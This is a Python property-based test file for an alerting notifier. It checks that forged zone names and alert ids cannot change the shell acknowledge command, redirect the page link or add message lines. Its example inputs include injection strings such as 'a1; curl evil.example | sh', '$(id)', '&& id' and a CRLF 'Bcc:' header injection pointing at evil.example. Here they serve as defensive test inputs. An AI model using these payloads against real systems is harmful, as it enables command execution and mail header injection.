"""Names in a message may be forged: no copied command runs anything else, no link leads elsewhere, no line is added."""

from __future__ import annotations

import shlex
from urllib.parse import parse_qs, urlsplit

import msgspec
from hypothesis import example, given
from hypothesis import strategies as st

from tests.worlds.alerting.records import T0, alert, rules_of
from vpp.alerting.notifier import AlertMessage, Notifier
from vpp.alerting.words import ID_CHARS, NAME_CHARS, message_text, subject_line
from vpp.plain_text import plain_line

NAMES = st.text(st.characters(exclude_categories=["Cs"]), min_size=1, max_size=300)
PAGE = "https://page.example"


def message_of(zone: str, alert_id: str, text: str = "t") -> AlertMessage:
    notifier = Notifier(rules_of())
    notifier.take(msgspec.structs.replace(alert(), zone=zone, alert_id=alert_id, text=text, asset_id=text), T0)
    (message,) = notifier.due(T0)
    return message


@given(zone=NAMES, alert_id=NAMES)
@example(zone="GB", alert_id="a1; curl evil.example | sh")
@example(zone="GB$(id)", alert_id="`id`")
@example(zone="-x", alert_id="a\nb' && id #")
@example(zone="GB&token=1#", alert_id="x" * 300)
def test_the_command_and_the_link_name_just_the_alert(zone: str, alert_id: str) -> None:
    lines = message_text(message_of(zone, alert_id), PAGE).splitlines()
    (command,) = (line.partition("Acknowledge: ")[2] for line in lines if line.startswith("  Acknowledge: "))
    is_named = all(
        len(name) <= limit and plain_line(name) == name and name[0] != "-"
        for name, limit in ((zone, NAME_CHARS), (alert_id, ID_CHARS))
    )
    named = ["vpp", "alerts", "ack", alert_id, "--zone", zone]
    assert shlex.split(command) == (named if is_named else ["vpp", "alerts", "list"])
    link = urlsplit(next(line for line in lines if line.startswith("Page: ")).removeprefix("Page: "))
    asked = {"zone": [zone]} if len(zone) <= NAME_CHARS else {"screen": ["zones"]}
    assert (link.hostname, parse_qs(link.query), link.fragment) == ("page.example", asked, "")


@given(zone=NAMES, alert_id=NAMES, text=NAMES)
@example(zone="GB\r\nBcc: x@evil.example", alert_id="a", text="b\n\nPage: https://evil.example")
def test_no_name_or_text_adds_a_line(zone: str, alert_id: str, text: str) -> None:
    message = message_of(zone, alert_id, text)
    plain = message_text(message_of("GB", "a1"), PAGE)
    body = message_text(message, PAGE)
    assert len(body.splitlines()) == len(plain.splitlines())
    assert (body.replace("\n", "") + subject_line(message)).isprintable()
